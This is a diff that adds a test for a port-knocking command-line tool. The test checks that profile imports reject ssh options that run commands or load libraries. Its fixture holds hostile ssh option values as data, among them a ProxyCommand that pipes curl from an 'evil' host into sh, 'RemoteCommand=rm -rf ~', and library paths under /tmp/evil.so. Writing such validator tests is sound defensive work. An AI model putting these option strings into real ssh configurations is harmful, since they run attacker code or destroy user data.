@@ -54,3 +54,46 @@ test('import knockd, ssh-config and json; export with and without secrets', asyn
   r = await knocker(['import', 'nonsense']);
   assert.equal(r.code, 2);
 });
+
+test('imports refuse ssh options that run commands, naming each; set by hand they are kept', async (t) => {
+  const { knocker } = harness(t);
+  const shared = {
+    format: 'knocker-profiles',
+    version: 1,
+    profiles: [
+      { name: 'clean', host: 'h1', ssh: { options: ['ServerAliveInterval=30'] }, sequence: '7000,8000' },
+      { name: 'proxy', host: 'h2', ssh: { options: ["ProxyCommand=sh -c 'curl evil | sh'"] }, sequence: '7000' },
+      { name: 'local', host: 'h3', ssh: { options: ['ServerAliveInterval=30', 'PermitLocalCommand=yes', 'LocalCommand touch /tmp/x'] }, sequence: '7000' },
+      { name: 'libs', host: 'h4', ssh: { options: ['knownhostscommand=/bin/id', 'PKCS11Provider=/tmp/evil.so', 'SecurityKeyProvider=/tmp/evil.so', 'XAuthLocation=/tmp/evil'] }, sequence: '7000' },
+      { name: 'other', host: 'h5', ssh: { options: ['Match=exec "id"', 'Include=/tmp/evil.conf', 'RemoteCommand=rm -rf ~'] }, sequence: '7000' },
+    ],
+  };
+  let r = await knocker(['import', 'json', '-', '--json'], JSON.stringify(shared));
+  assert.equal(r.code, 8, r.stderr);
+  const rep = JSON.parse(r.stdout) as { added: string[]; invalid: { source: string; problems: { field: string; message: string }[] }[] };
+  assert.deepEqual(rep.added, ['clean']);
+  const named = rep.invalid.map((i) => [i.source, i.problems.map((p) => `${p.field}: ${p.message.split(':')[0]}`)]);
+  assert.deepEqual(named, [
+    ['stdin profiles[1]', ['profiles[1].ssh.options[0]: ProxyCommand runs a command on this computer to reach the server']],
+    ['stdin profiles[2]', ['profiles[2].ssh.options[1]: PermitLocalCommand lets LocalCommand (or the ~! escape) run commands on this computer', 'profiles[2].ssh.options[2]: LocalCommand runs a command on this computer after connecting']],
+    ['stdin profiles[3]', ['profiles[3].ssh.options[0]: knownhostscommand runs a command on this computer to list host keys', 'profiles[3].ssh.options[1]: PKCS11Provider loads a library into ssh on this computer', 'profiles[3].ssh.options[2]: SecurityKeyProvider loads a library into ssh on this computer', 'profiles[3].ssh.options[3]: XAuthLocation names the program ssh runs for X11 forwarding']],
+    ['stdin profiles[4]', ['profiles[4].ssh.options[0]: Match may run a command on this computer (Match exec)', 'profiles[4].ssh.options[1]: Include reads other ssh config files, which may run commands', 'profiles[4].ssh.options[2]: RemoteCommand runs a command in your session on the server']],
+  ]);
+  assert.match(rep.invalid[0].problems[0].message, /an import does not take it \(set it by hand in the editor if you trust it\)$/);
+  // The text report names them too.
+  r = await knocker(['import', 'json', '-', '--dry-run'], JSON.stringify(shared));
+  assert.match(r.stderr, /invalid stdin profiles\[1\]:\n {2}profiles\[1\]\.ssh\.options\[0\]: ProxyCommand runs a command on this computer/);
+  r = await knocker(['list', '--json']);
+  assert.deepEqual(JSON.parse(r.stdout).map((p: { name: string }) => p.name), ['clean']);
+  // By hand, the person's own choice: kept.
+  r = await knocker(['edit', 'clean', '--ssh-option', 'ProxyCommand=nc %h %p']);
+  assert.equal(r.code, 0, r.stderr);
+  r = await knocker(['list', 'clean', '--json']);
+  assert.deepEqual(JSON.parse(r.stdout)[0].ssh.options, ['ProxyCommand=nc %h %p']);
+  // And an export of it is refused on the way back in.
+  r = await knocker(['export', 'clean']);
+  await knocker(['rm', 'clean']);
+  r = await knocker(['import', 'json', '-'], r.stdout);
+  assert.equal(r.code, 8);
+  assert.match(r.stderr, /profiles\[0\]\.ssh\.options\[0\]: ProxyCommand runs a command/);
+});
